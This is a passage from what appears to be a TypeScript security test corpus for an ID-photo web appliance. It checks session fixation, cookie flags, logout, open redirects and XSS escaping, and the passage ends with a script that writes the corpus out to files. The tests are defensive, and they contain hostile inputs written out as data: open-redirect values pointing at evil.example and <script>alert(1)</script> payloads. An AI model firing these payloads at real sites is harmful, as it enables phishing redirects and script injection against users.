    if (res.status !== 303 || !set.startsWith('idphotos_session=') || set.startsWith(planted)) throw new GotThrough(`sign-in kept the planted id (${res.status}, ${set.slice(0, 60)})`);
    const withPlanted = await fetch(`${t.base}/api/users/B0001`, { headers: { cookie: planted } });
    await withPlanted.arrayBuffer();
    if (withPlanted.status !== 401) throw new GotThrough(`the planted id answers ${withPlanted.status}`);
    return { verdict: 'refused', message: 'a fresh session id is issued at sign-in; the planted one stays signed out' };
  });
  web('session cookie flags (HttpOnly, SameSite)', async (t) => {
    const res = await fetch(`${t.base}/login`, { method: 'POST', redirect: 'manual', headers: { origin: t.base, 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=desk&password=proof-under-fire-1' });
    await res.arrayBuffer();
    const set = (res.headers.get('set-cookie') ?? '').toLowerCase();
    if (!set.includes('httponly') || !set.includes('samesite=lax')) throw new GotThrough(`cookie flags: ${set}`);
    return { verdict: 'neutralised', message: 'HttpOnly; SameSite=Lax (Secure under TLS)' };
  });
  web('a signed-out session id is dead', async (t) => {
    const res = await fetch(`${t.base}/login`, { method: 'POST', redirect: 'manual', headers: { origin: t.base, 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=desk&password=proof-under-fire-1' });
    await res.arrayBuffer();
    const cookie = res.headers.get('set-cookie')!.split(';')[0]!;
    const page = await (await fetch(`${t.base}/`, { headers: { cookie } })).text();
    const token = /name="_csrf" value="([^"]+)"/.exec(page)?.[1] ?? '';
    const out = await fetch(`${t.base}/logout`, { method: 'POST', redirect: 'manual', headers: { cookie, origin: t.base, 'content-type': 'application/x-www-form-urlencoded' }, body: `_csrf=${encodeURIComponent(token)}` });
    await out.arrayBuffer();
    const after = await fetch(`${t.base}/api/users/B0001`, { headers: { cookie } });
    await after.arrayBuffer();
    if (after.status !== 401) throw new GotThrough(`the old id answers ${after.status} after sign-out`);
    return { verdict: 'refused', message: 'the session is deleted on sign-out' };
  });
  web('open redirect after sign-in (next=//evil.example)', async (t) => {
    const res = await fetch(`${t.base}/login`, { method: 'POST', redirect: 'manual', headers: { origin: t.base, 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=desk&password=proof-under-fire-1&next=%2F%2Fevil.example%2F' });
    await res.arrayBuffer();
    const loc = res.headers.get('location') ?? '';
    if (!loc.startsWith('/') || loc.startsWith('//')) throw new GotThrough(`redirected to ${loc}`);
    return { verdict: 'neutralised', message: `redirected to ${loc}` };
  });
  web('open redirect after sign-in (next=/\\evil.example)', async (t) => {
    const res = await fetch(`${t.base}/login`, { method: 'POST', redirect: 'manual', headers: { origin: t.base, 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=desk&password=proof-under-fire-1&next=%2F%5Cevil.example' });
    await res.arrayBuffer();
    const loc = res.headers.get('location') ?? '';
    if (loc.startsWith('/\\') || loc.startsWith('//') || !loc.startsWith('/')) throw new GotThrough(`redirected to ${loc}`);
    return { verdict: 'neutralised', message: `redirected to ${loc}` };
  });

  // Script in names that came from a roster CSV
  const raw = PRIOR.scriptNames.flatMap((u) => [u.first, u.last]).filter((s) => /[<>"]/.test(s));
  const noRaw = (title: string, path: (t: Target) => string) =>
    web(`script in names: ${title}`, async (t) => {
      const res = await t.staff.get(path(t));
      const html = await res.text();
      if (res.status !== 200) throw new GotThrough(`${title}: answered ${res.status}`);
      for (const s of raw) if (html.includes(s)) throw new GotThrough(`${title}: the page contains ${s} unescaped`);
      if (!/&lt;(script|svg|img|\/title)/.test(html)) throw new GotThrough(`${title}: the names are not on the page at all`);
      const csp = res.headers.get('content-security-policy') ?? '';
      if (!/script-src[^;]*'self'/.test(csp) && !/default-src[^;]*'self'/.test(csp)) throw new GotThrough(`${title}: no script-restricting Content-Security-Policy (${csp})`);
      return { verdict: 'neutralised', message: 'escaped in the page; CSP allows only our own scripts' };
    });
  noRaw('search results page', () => '/search?q=X000');
  noRaw('search fragment (search-as-you-type)', () => '/search?q=X000&fragment=1');
  for (const u of PRIOR.scriptNames) noRaw(`profile page of ${u.id}`, () => `/users/${u.id}`);
  web('script in names: the JSON API is JSON, not HTML', async (t) => {
    const res = await t.staff.get('/api/users/X0001');
    const type = res.headers.get('content-type') ?? '';
    const nosniff = res.headers.get('x-content-type-options');
    await res.arrayBuffer();
    if (!type.startsWith('application/json') || nosniff !== 'nosniff') throw new GotThrough(`served as ${type}, nosniff=${nosniff}`);
    return { verdict: 'neutralised', message: 'application/json with nosniff' };
  });
  web('script in a searched term is not reflected raw', async (t) => {
    const q = '<script>alert("q")</script>';
    const html = await (await t.staff.get(`/search?q=${encodeURIComponent(q)}`)).text();
    if (html.includes(q)) throw new GotThrough('the query is reflected unescaped');
    return { verdict: 'neutralised', message: 'escaped' };
  });
  web('script in an unknown path is not reflected raw', async (t) => {
    const res = await t.staff.get('/nothing-%3Cscript%3Ealert(1)%3C/script%3E');
    const html = await res.text();
    if (html.includes('<script>alert(1)</script>')) throw new GotThrough('the path is reflected unescaped');
    return { verdict: 'refused', message: `${res.status}` };
  });
  web('script in a sign-in user name is not reflected raw', async (t) => {
    const res = await fetch(`${t.base}/login`, { method: 'POST', redirect: 'manual', headers: { origin: t.base, 'content-type': 'application/x-www-form-urlencoded' }, body: `username=${encodeURIComponent('<script>alert(1)</script>')}&password=x` });
    const html = await res.text();
    if (html.includes('<script>alert(1)</script>')) throw new GotThrough('the user name is reflected unescaped');
    return { verdict: 'refused', message: `${res.status}` };
  });
  web('photo of a missing user does not reveal whether it exists to staff by content', async (t) => {
    const res = await t.staff.get('/photos/NOPE-9999?size=thumb');
    await res.arrayBuffer();
    if (res.status !== 404) throw new GotThrough(`answered ${res.status}`);
    return { verdict: 'refused', message: '404' };
  });
  web('a version of another user\'s photo by guessing version ids', async (t) => {
    const versions = await t.admin.json<Array<{ version_id: number }>>('/api/photo-versions/B0001');
    for (const who of [t.staff, t.admin]) {
      const res = await who.get(`/photos/B0002?size=full&version=${versions[0]!.version_id}`);
      await res.arrayBuffer();
      if (res.status < 400 || res.headers.get('content-type')?.startsWith('image/')) throw new GotThrough(`B0001's version served as B0002's: ${res.status}`);
    }
    return { verdict: 'refused', message: 'staff 403 (versions are for admins), admin 404' };
  });
  return cases;
}

/** Every case, in a fixed order. `maxPhotoBytes` is the appliance's `sftp.max_photo_bytes`. */
export async function hostileCorpus(maxPhotoBytes: number): Promise<HostileCase[]> {
  const photo = await seededJpeg(4242);
  return [...sftpPathCases(photo), ...(await fileCases(photo, maxPhotoBytes)), ...csvCases(), ...webCases()];
}

export function countByCategory(cases: readonly HostileCase[]): Record<Category, number> {
  const counts: Record<Category, number> = { 'sftp-path': 0, file: 0, csv: 0, web: 0 };
  for (const c of cases) counts[c.category]++;
  return counts;
}

// Writing the corpus out lets anyone feed the same bytes to another client or tool.
if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const out = process.argv[2];
  if (!out) {
    console.error('usage: npx tsx scripts/proof/hostile-corpus.ts OUT_DIR');
    process.exit(2);
  }
  const cases = await hostileCorpus(256 * 1024);
  for (const [i, c] of cases.entries()) {
    if (!c.bytes) continue;
    const dir = join(out, c.category);
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, `${String(i).padStart(3, '0')}-${c.name}`), c.bytes);
  }
  writeFileSync(join(out, 'index.json'), JSON.stringify(cases.map((c, i) => ({ n: i, category: c.category, title: c.title, file: c.bytes ? `${c.category}/${String(i).padStart(3, '0')}-${c.name}` : undefined, sha256: c.bytes ? sha256(c.bytes) : undefined })), null, 2));
  console.log(JSON.stringify(countByCategory(cases)));
}
